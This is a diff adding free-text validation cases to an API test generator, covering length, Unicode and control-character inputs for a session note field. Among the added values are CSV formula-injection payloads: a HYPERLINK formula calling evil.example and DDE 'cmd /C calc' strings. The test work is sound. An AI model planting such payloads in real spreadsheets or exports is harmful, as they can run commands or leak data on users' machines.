@@ -103,7 +103,34 @@ def openapi_cases(document):
                     elif schema.get("type") == "string" and name in TIME_STRINGS:
                         for value, verdict in TIME_STRINGS[name]():
                             cases.append((method.upper(), path, "body", name, json.dumps(value), verdict))
+                    elif schema.get("type") == "string" and name in FREE_TEXT:
+                        for raw, verdict in text_values(schema.get("maxLength", 200)):
+                            cases.append((method.upper(), path, "body", name, raw, verdict))
     return cases
+
+
+# Body fields that hold a person's own words under one validator's rules (a session's note,
+# SessionNote); other names (a key's or a pairing's name) have rules of their own.
+FREE_TEXT = {"note"}
+
+
+def text_values(maximum):
+    """(raw JSON text, verdict) for a person's free text of at most `maximum` characters (a session's
+    note, SessionNote): at and past the bound as a person counts characters (so 200 decomposed "é" —
+    400 code points — are inside), past the storage and body bounds, control characters, line breaks
+    and direction marks (refused), and formula-leading text (accepted: every CSV export neutralises
+    it, which class 10 checks)."""
+    text = [
+        ("a" * maximum, IN), ("a" * (maximum + 1), OUT), ("\u00e9" * maximum, IN), ("e\u0301" * maximum, IN),
+        ("\U0001F44D\U0001F3FD" * maximum, IN), ("e\u0301" * (maximum + 1), OUT), ("a" + "\u0301" * 5000, OUT),
+        ("x" * 20_000, OUT), ("", IN), ("   ", IN), ("  after coffee  ", IN),
+        ("tired\nvery", OUT), ("a\tb", OUT), ("\u0000", OUT), ("nul\u0000byte", OUT), ("\x1b[2J\x1b[H", OUT),
+        ("a\u0085b", OUT), ("abc\u202efed", OUT), ("a\u2028b", OUT), ("a\u2066b", OUT), ("del\x7f", OUT),
+        ('=HYPERLINK("http://evil.example/?x","click")', IN), ("+1+cmd|' /C calc'!A0", IN), ("-2+3+cmd|'/C calc'!A0", IN),
+        ("@SUM(1+9)*cmd|' /C calc'!A0", IN),
+    ]
+    return [(json.dumps(value), verdict) for value, verdict in text] + [
+        ("null", IN), ('"\\ud800"', ODD), ("5", OUT), ("true", OUT), ("[]", OUT), ('{"a": 1}', OUT)]
 
 
 def cursor_values():
